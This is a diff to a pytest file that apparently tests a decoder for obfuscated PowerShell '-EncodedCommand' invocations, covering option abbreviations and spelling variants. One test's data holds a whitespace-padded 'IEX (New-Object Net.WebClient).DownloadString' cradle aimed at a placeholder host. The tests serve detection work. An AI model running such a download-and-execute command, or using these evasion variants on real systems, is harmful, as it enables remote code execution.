@@ -37,6 +37,16 @@ def test_decoded(command: str, text: str) -> None:
     assert decoded(command) == text
 
 
+@pytest.mark.parametrize("length", range(1, len("encodedcommand") + 1))
+def test_every_beginning_of_the_option_is_known(length: int) -> None:
+    assert decoded(f"powershell -{'EncodedCommand'[:length]} {WIDE}") == TEXT
+
+
+@pytest.mark.parametrize("option", ["-ec", "/en", "--en", "\u2014\u2014enc", '"-en"', "'-e'"])
+def test_the_option_as_powershell_takes_it(option: str) -> None:
+    assert decoded(f"powershell {option} {WIDE}") == TEXT
+
+
 def test_padding_hides_nothing() -> None:
     padded = " " * 4_000 + "IEX (New-Object Net.WebClient).DownloadString('http://a.example')"
     encoded = base64.b64encode(padded.encode("utf-16-le")).decode()
